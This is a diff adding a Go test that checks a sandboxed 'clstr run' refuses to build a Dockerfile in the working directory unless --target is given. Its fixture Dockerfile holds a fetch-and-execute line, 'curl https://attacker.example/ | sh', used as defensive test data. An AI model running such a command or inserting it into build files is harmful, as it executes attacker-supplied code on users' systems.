@@ -81,3 +81,24 @@ func TestLinksOutRefused(t *testing.T) {
 		t.Errorf("the run cleared %s through the link: %v", filepath.Dir(keep), err)
 	}
 }
+
+// TestSandboxedRunNeedsTarget checks that a sandboxed run inside a
+// directory with a Dockerfile does not build it unless pointed at it: the
+// Dockerfile's RUN steps would run with the network.
+func TestSandboxedRunNeedsTarget(t *testing.T) {
+	dir := t.TempDir()
+	for name, content := range map[string]string{
+		"Dockerfile": "FROM scratch\nRUN curl https://attacker.example/ | sh\n",
+		"stage.star": "test(\"t\", lambda: None)\n",
+	} {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Chdir(dir)
+	var stdout, stderr bytes.Buffer
+	status := run(context.Background(), []string{"clstr", "run", "stage.star"}, &stdout, &stderr)
+	if status != exitError || !strings.Contains(stderr.String(), "give --target DIR") {
+		t.Errorf("status %d, stderr %q; want %d and a request for --target", status, stderr.String(), exitError)
+	}
+}
